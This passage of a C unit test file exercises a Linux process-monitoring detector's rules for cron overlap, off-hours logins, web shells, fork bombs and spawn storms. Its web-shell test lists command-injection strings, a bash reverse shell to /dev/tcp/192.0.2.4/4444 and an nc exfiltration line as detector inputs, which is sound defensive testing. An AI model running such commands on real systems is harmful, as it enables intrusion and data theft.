	sw_detect_tick(det, l, 122 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);	/* said once */
	/* Run 1 ends: cleared.  Run 3 overlaps run 2: raised again. */
	exit_at(l, 61, 150 * S);
	sw_detect_tick(det, l, 151 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	fork_at(l, 50, 90, 180 * S, false);
	fork_at(l, 90, 91, 180 * S, false);
	EXEC_IN(l, 91, "/usr/bin/dash", "/bin/sh\0" "-c\0" "backup.sh", 180 * S);
	assert_true(tagged("cron-overlap"));
	sw_detect_tick(det, l, 181 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);
	assert_int_equal(last.pid, 81);		/* run 2, the first alive */
	/* runs = 2: one earlier run alive is allowed. */
	rules.cron.runs = 2;
	fork_at(l, 50, 95, 200 * S, false);
	fork_at(l, 95, 96, 200 * S, false);
	EXEC_IN(l, 96, "/usr/bin/dash", "/bin/sh\0" "-c\0" "report.sh", 200 * S);
	assert_int_equal(ev.n_tags, 0);
	sw_lineage_free(l);
	sw_users_free(u);
}

/* Two overlapping runs of one job under daemon exe: whether tagged. */
static bool cron_pair(const char *exe, int base)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(1000, u);
	bool t;

	fork_at(l, 1, base, 1 * S, false);
	EXEC_IN(l, base, exe, "cron\0" "-f", 1 * S);
	for (int i = 1; i <= 2; i++) {
		fork_at(l, base, base + i, (uint64_t)(10 * i) * S, false);
		EXEC_IN(l, base + i, "/usr/bin/dash",
			"/bin/sh\0" "-c\0" "backup.sh", (uint64_t)(10 * i) * S);
	}
	t = tagged("cron-overlap");
	sw_lineage_free(l);
	sw_users_free(u);
	return t;
}

/*
 * A cron daemon is known by its executable's path: a copy of a shell
 * named cron (comm and basename "cron") starts no cron jobs.
 */
static void test_cron_path(void **state)
{
	/* Pids of their own: the detector's slots outlive each table. */
	assert_true(cron_pair("/usr/sbin/cron", 100));
	assert_true(cron_pair("/sbin/crond", 200));		/* merged /usr */
	assert_true(cron_pair("/usr/sbin/anacron (deleted)", 300));
	assert_false(cron_pair("/tmp/x/cron", 400));
	assert_false(cron_pair("/home/u/crond", 500));
	assert_false(cron_pair("/usr/local/sbin/cron", 600));
	assert_false(cron_pair("/usr/bin/busybox", 700));
	/* The rules file's list names the daemon. */
	rules.cron.daemons.n = 0;
	SW_NAMES_FILL(&rules.cron.daemons,
		      ((const char *const[]){ "/opt/cron/bin/cron" }));
	assert_true(cron_pair("/opt/cron/bin/cron", 800));
	assert_false(cron_pair("/usr/sbin/cron", 900));
}

/* off-hours: only below a session, only outside the hours and days. */
static void test_off_hours(void **state)
{
		struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(1000, u);
	/* 2026-11-30 is a Monday; the clock runs in UTC here. */
	const uint64_t monday_noon = 1796040000ull * S;	/* 12:00 UTC */
	const uint64_t monday_night = monday_noon + 11 * 3600 * S;	/* 23:00 */
	const uint64_t sunday_noon = monday_noon - 24 * 3600 * S;

	setenv("TZ", "UTC", 1);
	tzset();
	fork_at(l, 1, 10, 1 * S, false);
	EXEC_IN(l, 10, "/usr/sbin/sshd", "sshd: alice", 1 * S);
	fork_at(l, 10, 11, 2 * S, false);
	EXEC_IN(l, 11, "/usr/bin/bash", "-bash", 2 * S);
	fork_at(l, 11, 12, 3 * S, false);
	EXEC_IN(l, 12, "/usr/bin/id", "id", monday_night);
	assert_int_equal(ev.n_tags, 0);		/* off until configured */
	rules.hours.enabled = true;
	rules.hours.have_hours = true;
	rules.hours.from_min = 8 * 60;
	rules.hours.to_min = 19 * 60;
	rules.hours.days = 0x3e;			/* mon-fri */
	EXEC_IN(l, 12, "/usr/bin/id", "id", monday_night);
	assert_true(tagged("off-hours"));
	EXEC_IN(l, 12, "/usr/bin/id", "id", monday_noon);
	assert_int_equal(ev.n_tags, 0);
	EXEC_IN(l, 12, "/usr/bin/id", "id", sunday_noon);
	assert_true(tagged("off-hours"));
	/* Not below a session: a daemon's job at night is not a person. */
	fork_at(l, 1, 20, 3 * S, false);
	EXEC_IN(l, 20, "/usr/bin/id", "id", monday_night);
	assert_int_equal(ev.n_tags, 0);
	/* Overnight shift 22:00-06:00 from Monday: 23:00 is inside. */
	rules.hours.from_min = 22 * 60;
	rules.hours.to_min = 6 * 60;
	EXEC_IN(l, 12, "/usr/bin/id", "id", monday_night);
	assert_int_equal(ev.n_tags, 0);
	EXEC_IN(l, 12, "/usr/bin/id", "id", monday_noon);
	assert_true(tagged("off-hours"));
	/* Without the table, the event's ancestry tells. */
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.ktime_ns = monday_noon;
	ev.n_ancestry = 2;
	ev.ancestry[0] = (struct sw_ancestor){ 11, "bash", "/usr/bin/bash" };
	ev.ancestry[1] = (struct sw_ancestor){ 10, "sshd", "/usr/sbin/sshd" };
	sw_detect_event(det, NULL, &ev);
	assert_true(tagged("off-hours"));
	sw_lineage_free(l);
	sw_users_free(u);
}

/* pid forked by ppid and exec'd to exe with argv ("a\0b\0"), judged. */
static void run_in(struct sw_lineage *l, int ppid, int pid, const char *exe,
		   const char *argv, size_t n)
{
	fork_at(l, ppid, pid, (uint64_t)pid * S, false);
	exec_in(l, pid, exe, argv, n, (uint64_t)pid * S);
}

#define RUN(l, ppid, pid, exe, argv) run_in(l, ppid, pid, exe, argv, sizeof(argv))

/* A shell running cmd (sh -c CMD) as pid, below ppid: tagged web-shell? */
static bool web_cmd(struct sw_lineage *l, int ppid, int pid, const char *cmd)
{
	static char argv[256];	/* ev.argv, after the return too */
	int n = snprintf(argv, sizeof(argv), "sh%c-c%c%s", 0, 0, cmd);

	assert_true(n > 0 && (size_t)n < sizeof(argv));
	run_in(l, ppid, pid, "/usr/bin/dash", argv, (size_t)n + 1);
	return tagged("web-shell");
}

/*
 * web-shell on real shapes: below a server at any depth, through fcgiwrap,
 * a fixed command against an injected one, each marker, node served or
 * run from a terminal.
 */
static void test_webshell(void **state)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(1000, u);
	static const char *const injected[] = {
		"ping -c 1 127.0.0.1;id", "ping -c 1 127.0.0.1 && uname -a",
		"ping -c 1 nohost || id", "ping -c 1 127.0.0.1|cat /etc/passwd",
		"ping -c 1 127.0.0.1 & id", "ping -c 1 127.0.0.1\nid",
		"ping -c 1 $(whoami)", "ping -c 1 `whoami`",
		"ping -c 1 \"$(id)\"", "ping -c 1 127.0.0.1 >/var/www/x.php",
		"ping -c 1 127.0.0.1 </etc/passwd", "ping -c 1 <(id)",
		"bash -i >& /dev/tcp/192.0.2.4/4444 0>&1",
		"ping -c 1 '127.0.0.1' >'/dev/tcp/192.0.2.4/80'",
		"id", "uname -a", "cat /etc/passwd", "python3 -c 'import pty'",
	};
	static const char *const fixed[] = {
		"ping -c 1 127.0.0.1", "ping -c 1 '127.0.0.1;id'",
		"ping -c 1 \"127.0.0.1;id\"", "ping -c 1 127.0.0.1\\;id",
		"ping -c 1 127.0.0.1 2>&1", "ping -c 1 127.0.0.1 >/dev/null 2>&1",
		"convert in.png out.jpg 2>/dev/null", "cat /var/www/page.html",
		"python3 /srv/app/resize.py", "curl -s http://127.0.0.1/api",
	};
	int pid = 100;

	fork_at(l, 0, 1, 1 * S, false);
	EXEC_IN(l, 1, "/usr/lib/systemd/systemd", "/sbin/init", 1 * S);
	/* php-fpm: master and worker, below systemd. */
	RUN(l, 1, 10, "/usr/sbin/php-fpm8.2", "php-fpm: master process");
	RUN(l, 10, 11, "/usr/sbin/php-fpm8.2", "php-fpm: pool www");
	for (unsigned i = 0; i < sizeof(injected) / sizeof(injected[0]); i++) {
		if (!web_cmd(l, 11, pid++, injected[i]))
			fail_msg("not tagged: %s", injected[i]);
	}
	for (unsigned i = 0; i < sizeof(fixed) / sizeof(fixed[0]); i++)
		if (web_cmd(l, 11, pid++, fixed[i]))
			fail_msg("tagged: %s", fixed[i]);
	/* A server above it: no app to ask whether it listens. */
	assert_true(web_cmd(l, 11, pid++, "ping -c 1 127.0.0.1;id"));
	assert_int_equal(sw_rules_net_web_app(&rules, l, &ev), 0);
	/* What the injected shell runs is judged too; the fixed ping is not. */
	assert_true(web_cmd(l, 11, 300, "ping -c 1 127.0.0.1;id"));
	RUN(l, 300, 301, "/usr/bin/ping", "ping\0-c\0" "1\0" "127.0.0.1");
	assert_int_equal(ev.n_tags, 0);
	RUN(l, 300, 302, "/usr/bin/id", "id");
	assert_true(tagged("web-shell"));
	/* Clusters: -ec is -c; -o takes its argument; a shell on its input. */
	RUN(l, 11, 303, "/usr/bin/bash", "bash\0-ec\0ping -c 1 x;id");
	assert_true(tagged("web-shell"));
	RUN(l, 11, 304, "/usr/bin/bash", "bash\0-o\0pipefail\0-c\0ping -c 1 x");
	assert_int_equal(ev.n_tags, 0);
	RUN(l, 11, 305, "/usr/bin/dash", "sh\0-i");
	assert_true(tagged("web-shell"));
	RUN(l, 11, 306, "/usr/bin/busybox", "busybox\0sh\0-c\0ls;id");
	assert_true(tagged("web-shell"));

	/* Deep: nginx, a wrapper chain of ten, then the shell. */
	RUN(l, 1, 20, "/usr/sbin/nginx", "nginx: master process");
	RUN(l, 20, 21, "/usr/sbin/nginx", "nginx: worker process");
	RUN(l, 21, 400, "/usr/bin/env", "env");
	for (int i = 401; i < 410; i++)
		RUN(l, i - 1, i, "/usr/bin/timeout", "timeout\0" "5");
	assert_true(web_cmd(l, 409, 410, "ls|nc 192.0.2.4 80"));
	RUN(l, 409, 411, "/usr/bin/whoami", "whoami");
	assert_true(tagged("web-shell"));
	RUN(l, 409, 412, "/usr/bin/cat", "cat\0/var/www/index.html");
	assert_int_equal(ev.n_tags, 0);

	/* fcgiwrap, below systemd's socket and not below nginx. */
	RUN(l, 1, 30, "/usr/sbin/fcgiwrap", "/usr/sbin/fcgiwrap\0-s\0unix:/run/f.sock");
	RUN(l, 30, 31, "/usr/bin/bash", "/bin/bash\0/usr/lib/cgi-bin/x.sh");
	assert_int_equal(ev.n_tags, 0);		/* the CGI is the app */
	RUN(l, 31, 32, "/usr/bin/ping", "ping\0-c\0" "1\0" "127.0.0.1");
	assert_int_equal(ev.n_tags, 0);
	RUN(l, 31, 33, "/usr/bin/uname", "uname\0-a");	/* its eval'd query */
	assert_true(tagged("web-shell"));

	/* node: a server when started by systemd... */
	RUN(l, 1, 40, "/usr/bin/node", "node\0/srv/app/server.js");
	assert_true(web_cmd(l, 40, 41, "ping -c 1 127.0.0.1;id"));
	assert_false(web_cmd(l, 40, 42, "ping -c 1 127.0.0.1"));
	/*
	 * ...and whether it listens is read for what would make it a web
	 * shell: a node run by a script, listening on nothing, serves nothing.
	 */
	assert_true(web_cmd(l, 40, 43, "ping -c 1 127.0.0.1;id"));
	assert_int_equal(sw_rules_net_web_app(&rules, l, &ev), 40);
	ev.app_pid = 40;
	ev.app_listens = SW_APP_SILENT;
	ev.n_tags = 0;
	sw_detect_event(det, l, &ev);
	assert_false(tagged("web-shell"));
	ev.app_listens = SW_APP_LISTENS;
	ev.n_tags = 0;
	sw_detect_event(det, l, &ev);
	assert_true(tagged("web-shell"));
	ev.app_pid = 39;		/* another process's answer */
	ev.app_listens = SW_APP_SILENT;
	ev.n_tags = 0;
	sw_detect_event(det, l, &ev);
	assert_true(tagged("web-shell"));
	assert_false(web_cmd(l, 40, 44, "ping -c 1 127.0.0.1"));
	assert_int_equal(sw_rules_net_web_app(&rules, l, &ev), 0);	/* fixed */
	rules.net.webshell_enabled = false;
	assert_false(web_cmd(l, 40, 45, "ping -c 1 127.0.0.1;id"));
	assert_int_equal(sw_rules_net_web_app(&rules, l, &ev), 0);
	rules.net.webshell_enabled = true;
	/* ...not from a terminal's shell, nor by ssh or cron. */
	RUN(l, 1, 50, "/usr/bin/xterm", "xterm");
	RUN(l, 50, 51, "/usr/bin/bash", "bash");
	RUN(l, 51, 52, "/usr/bin/make", "make");
	RUN(l, 52, 53, "/usr/bin/node", "node\0build.js");
	assert_false(web_cmd(l, 53, 54, "ls dist && rm -rf dist/*"));
	RUN(l, 53, 55, "/usr/bin/id", "id");
	assert_int_equal(ev.n_tags, 0);
	RUN(l, 1, 60, "/usr/sbin/cron", "/usr/sbin/cron\0-f");
	RUN(l, 60, 61, "/usr/bin/dash", "/bin/sh\0-c\0node /srv/job.js");
	RUN(l, 61, 62, "/usr/bin/node", "node\0/srv/job.js");
	assert_false(web_cmd(l, 62, 63, "tar c /srv | gzip >/backup/x.tgz"));
	RUN(l, 51, 64, "/usr/bin/bash", "-bash");	/* a login shell */
	RUN(l, 64, 65, "/usr/bin/node", "node\0x.js");
	assert_false(web_cmd(l, 65, 66, "a;b"));
	/* python counts when listed. */
	RUN(l, 1, 70, "/usr/bin/python3.11", "python3\0/srv/app.py");
	assert_false(web_cmd(l, 70, 71, "ping -c 1 x;id"));
	rules.net.apps.v[rules.net.apps.n++] = "python3";
	assert_true(web_cmd(l, 70, 72, "ping -c 1 x;id"));
	RUN(l, 51, 73, "/usr/bin/python3.11", "python3\0app.py");
	assert_false(web_cmd(l, 73, 74, "ping -c 1 x;id"));

	/* markers tune the judgement; a recon command stays one. */
	rules.net.markers.n = 0;
	rules.net.markers.v[rules.net.markers.n++] = "semicolon";
	assert_true(web_cmd(l, 11, 500, "ping x;ls"));
	assert_false(web_cmd(l, 11, 501, "ping x|ls"));
	assert_true(web_cmd(l, 11, 502, "id"));
	assert_null(sw_rules_net_finish(&rules));
	rules.net.markers.v[rules.net.markers.n++] = "pipes";
	assert_non_null(sw_rules_net_finish(&rules));
	rules.net.markers.n--;
	rules.net.webshell_enabled = false;
	assert_false(web_cmd(l, 11, 503, "ping x;id"));
	rules.net.webshell_enabled = true;

	/* Without the table: the line's ancestry, names only, deep too. */
	sw_event_reset(&ev, SW_EV_EXEC);
	ev.exe = "/usr/bin/id";
	ev.have = SW_HAVE_EXE;
	ev.n_ancestry = 5;
	for (int i = 0; i < 4; i++)
		ev.ancestry[i] = (struct sw_ancestor){ 600 + i, "bash", "/usr/bin/bash" };
	ev.ancestry[4] = (struct sw_ancestor){ 30, "fcgiwrap", "/usr/sbin/fcgiwrap" };
	sw_detect_event(det, NULL, &ev);
	assert_true(tagged("web-shell"));
	ev.n_tags = 0;
	ev.ancestry[4] = (struct sw_ancestor){ 40, "node", "/usr/bin/node" };
	sw_detect_event(det, NULL, &ev);
	assert_true(tagged("web-shell"));
	ev.n_tags = 0;
	ev.n_ancestry = 6;
	ev.ancestry[5] = (struct sw_ancestor){ 10, "sshd", "/usr/sbin/sshd" };
	sw_detect_event(det, NULL, &ev);
	assert_int_equal(ev.n_tags, 0);
	sw_lineage_free(l);
	sw_users_free(u);
}

/* orphaned rides on reparent events, and can be turned off. */
static void test_orphaned(void **state)
{
	sw_event_reset(&ev, SW_EV_REPARENT);
	sw_detect_event(det, NULL, &ev);
	assert_true(tagged("orphaned"));
	rules.exit.orphaned_enabled = false;
	sw_event_reset(&ev, SW_EV_REPARENT);
	sw_detect_event(det, NULL, &ev);
	assert_int_equal(ev.n_tags, 0);
}

/* A storm window shorter than the ring: older seconds do not count. */
static void test_storm_window(void **state)
{
		struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(5000, u);
	struct sw_event scratch;
	int pid = 100;

	fork_at(l, 1, 20, 1 * S, false);
	rules.storm.window = 2;
	for (int i = 0; i < 150; i++)
		fork_at(l, 20, pid++, 10 * S, false);
	for (int i = 0; i < 100; i++)
		fork_at(l, 20, pid++, 13 * S, false);
	n_anomalies = 0;
	sw_detect_tick(det, l, 13 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 0);	/* 100 in the last 2 s */
	for (int i = 0; i < 100; i++)
		fork_at(l, 20, pid++, 14 * S, false);
	sw_detect_tick(det, l, 14 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);
	assert_true(last.u.anomaly.window_s > 1.9 && last.u.anomaly.window_s < 2.1);
	sw_lineage_free(l);
	sw_users_free(u);
}

/*
 * The detectors' slots follow the table: a process it evicts takes its
 * slot along, and a new process on the same pid starts afresh.
 */
static void test_slots(void **state)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(5000, u);
	struct sw_event scratch;
	int pid = 100;

	fork_at(l, 1, 20, 1 * S, false);
	EXEC_IN(l, 20, "/usr/bin/bash", "bash", 1 * S);
	for (int i = 0; i < 300; i++, pid++)
		fork_at(l, 20, pid, 10 * S, false);
	n_anomalies = 0;
	sw_detect_tick(det, l, 10 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 1);	/* spawn-storm */
	assert_int_equal(sw_detect_slots(det), 301);
	for (int p = 100; p < pid; p++) {
		exit_at(l, p, 11 * S);
		sw_lineage_mark_reaped(l, sw_lineage_find(l, p), 11 * S);
	}
	exit_at(l, 20, 11 * S);
	sw_lineage_mark_reaped(l, sw_lineage_find(l, 20), 11 * S);
	sw_lineage_expire(l, 12 * S);
	sw_detect_tick(det, l, 12 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(sw_detect_slots(det), 0);
	/* pid 20 again, another process: its own window, no alert held. */
	fork_at(l, 1, 20, 13 * S, false);
	for (int i = 0; i < 300; i++)
		fork_at(l, 20, 1000 + i, 13 * S, false);
	sw_detect_tick(det, l, 13 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, 2);
	assert_int_equal(last.u.anomaly.count, 300);
	sw_lineage_free(l);
	sw_users_free(u);
}

static void test_tag_room(void **state)
{
	static const char *const t[] = { "t0", "t1", "t2", "t3", "t4", "t5",
					 "t6", "t7", "t8" };

	sw_event_reset(&ev, SW_EV_EXEC);
	for (unsigned i = 0; i < SW_TAGS_MAX; i++)
		assert_true(sw_detect_tag(&ev, t[i]));
	assert_true(sw_detect_tag(&ev, "t3"));	/* already there */
	assert_false(sw_detect_tag(&ev, t[SW_TAGS_MAX]));
	assert_int_equal(ev.n_tags, SW_TAGS_MAX);
}

/* CPU seconds this process has used. */
static double cpu_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/*
 * What an unprivileged user can build costs linear work, not quadratic:
 * the bounds below are 10 to 50 times what the linear code takes under
 * ASan, and a fraction of what a scan per fork, per clan or per job would
 * (see each).  The figures are printed.
 */
static void test_deep_chain(void **state)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(100000, u);
	struct sw_event scratch;
	const int depth = 30000;
	double t0, fork_s, tick_s;

	rules.storm.enabled = false;
	t0 = cpu_s();
	fork_at(l, 1, 2, 1 * S, false);
	EXEC_IN(l, 2, "/usr/bin/chain", "chain", 1 * S);
	for (int p = 3; p < depth + 2; p++)
		fork_at(l, p - 1, p, 2 * S + (uint64_t)p * 1000, false);
	/* 30,000 forks at the bottom: a walk to the top would be 9e8 steps. */
	for (int i = 0; i < 30000; i++)
		fork_at(l, depth + 1, 100000 + i, 3 * S + (uint64_t)i, false);
	fork_s = cpu_s() - t0;
	assert_int_equal(sw_lineage_count(l), depth + 30000);
	{
		const struct sw_proc *leaf = sw_lineage_lookup(l, 100000);

		assert_non_null(leaf);
		assert_non_null(leaf->parent);
		assert_int_equal(leaf->parent->pid, depth + 1);
	}
	n_anomalies = 0;
	t0 = cpu_s();
	for (int k = 0; k < 5; k++)
		sw_detect_tick(det, l, (4 + (uint64_t)k) * S, &scratch, on_anomaly, NULL);
	tick_s = (cpu_s() - t0) / 5;
	/* It is a bomb's shape: deep, many, one program: said once. */
	assert_int_equal(n_anomalies, 1);
	assert_string_equal(last.u.anomaly.tag, "fork-bomb");
	assert_int_equal(last.pid, 3);		/* the first copy */
	print_message("30,000-deep chain: 60,000 forks %.3f s CPU, a tick %.4f s\n",
		      fork_s, tick_s);
	assert_true(fork_s < 1.0);
	assert_true(tick_s < 0.25);
	sw_lineage_free(l);
	sw_users_free(u);
}

/* 20,000 clans of copies under distinct roots: a list scan is 2e8 a tick. */
static void test_many_clans(void **state)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(100000, u);
	struct sw_event scratch;
	const int clans = 20000;
	double t0, tick_s;

	rules.storm.enabled = false;
	for (int i = 0; i < clans; i++) {
		int root = 10 + 3 * i;

		fork_at(l, 1, root, 1 * S, false);
		/* Each root runs a program of its own: a clan of its own. */
		EXEC_IN(l, root, i % 2 ? "/usr/bin/a" : "/usr/bin/b", "x", 1 * S);
		fork_at(l, root, root + 1, 2 * S, false);
		fork_at(l, root + 1, root + 2, 2 * S, false);
		exit_at(l, root + 1, 2 * S);	/* copy's copy, handed to init */
	}
	n_anomalies = 0;
	t0 = cpu_s();
	for (int k = 0; k < 5; k++)
		sw_detect_tick(det, l, (3 + (uint64_t)k) * S, &scratch, on_anomaly, NULL);
	tick_s = (cpu_s() - t0) / 5;
	assert_int_equal(n_anomalies, 0);	/* one copy each: no bomb */
	/* A lower bar: each clan is one; raised for all, once each. */
	rules.bomb.descendants = 1;
	rules.bomb.depth = 2;
	sw_detect_tick(det, l, 9 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, clans);
	sw_detect_tick(det, l, 10 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, clans);
	print_message("20,000 clans: a tick %.4f s CPU\n", tick_s);
	assert_true(tick_s < 0.1);
	sw_lineage_free(l);
	sw_users_free(u);
}

/*
 * 2,000 cron jobs on a table of 100,000 other processes: a table walk per
 * job is 2e8 steps; the jobs' own list is 2e6.
 */
static void test_many_jobs(void **state)
{
	struct sw_users *u = sw_users_new();
	struct sw_lineage *l = table(200000, u);
	struct sw_event scratch;
	const int jobs = 2000;
	double t0, exec_s;
	unsigned overlaps = 0;

	rules.storm.enabled = false;
	rules.bomb.enabled = false;
	for (int p = 100000; p < 200000; p++)
		fork_at(l, 1, p, 1 * S, false);
	fork_at(l, 1, 50, 1 * S, false);
	EXEC_IN(l, 50, "/usr/sbin/cron", "/usr/sbin/cron\0" "-f", 1 * S);
	t0 = cpu_s();
	for (int i = 0; i < jobs; i++) {
		int child = 1000 + 2 * i;
		char line[32];
		/* 1,000 command lines, each run twice. */
		int n = snprintf(line, sizeof(line), "job-%d.sh", i % 1000);

		fork_at(l, 50, child, 2 * S, false);
		fork_at(l, child, child + 1, 2 * S, false);
		exec_in(l, child + 1, "/usr/bin/dash", line, (size_t)n + 1, 2 * S);
		overlaps += tagged("cron-overlap");
	}
	exec_s = cpu_s() - t0;
	assert_int_equal(overlaps, jobs / 2);	/* the second run of each */
	n_anomalies = 0;
	sw_detect_tick(det, l, 3 * S, &scratch, on_anomaly, NULL);
	assert_int_equal(n_anomalies, jobs / 2);
	print_message("2,000 cron jobs among 100,000: %.3f s CPU\n", exec_s);
	assert_true(exec_s < 0.5);
	sw_lineage_free(l);
	sw_users_free(u);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(test_tmp, setup),
		cmocka_unit_test_setup(test_hidden_deleted_memfd, setup),
		cmocka_unit_test_setup(test_miner, setup),
		cmocka_unit_test_setup(test_miner_options, setup),
		cmocka_unit_test_setup(test_masquerade, setup),
		cmocka_unit_test_setup(test_masquerade_files, setup),
		cmocka_unit_test_setup(test_revshell_net, setup),
		cmocka_unit_test_setup(test_exit, setup),
		cmocka_unit_test_setup(test_net, setup),
		cmocka_unit_test_setup(test_tail, setup),
		cmocka_unit_test_setup(test_ptrace, setup),
		cmocka_unit_test_setup(test_zombies, setup),
		cmocka_unit_test_setup(test_storm, setup),
		cmocka_unit_test_setup(test_escape, setup),
		cmocka_unit_test_setup(test_priv, setup),
		cmocka_unit_test_setup(test_priv_setuid_exec, setup),
		cmocka_unit_test_setup(test_priv_helpers, setup),
		cmocka_unit_test_setup(test_priv_return, setup),
		cmocka_unit_test_setup(test_bomb, setup),
		cmocka_unit_test_setup(test_bomb_blame, setup),
		cmocka_unit_test_setup(test_cron, setup),
		cmocka_unit_test_setup(test_cron_path, setup),
		cmocka_unit_test_setup(test_off_hours, setup),
		cmocka_unit_test_setup(test_webshell, setup),
		cmocka_unit_test_setup(test_orphaned, setup),
		cmocka_unit_test_setup(test_storm_window, setup),
		cmocka_unit_test_setup(test_slots, setup),
		cmocka_unit_test_setup(test_tag_room, setup),
		cmocka_unit_test_setup(test_deep_chain, setup),
		cmocka_unit_test_setup(test_many_clans, setup),
		cmocka_unit_test_setup(test_many_jobs, setup),
	};

	int r = cmocka_run_group_tests(tests, NULL, NULL);

	sw_detect_free(det);
	return r;
}
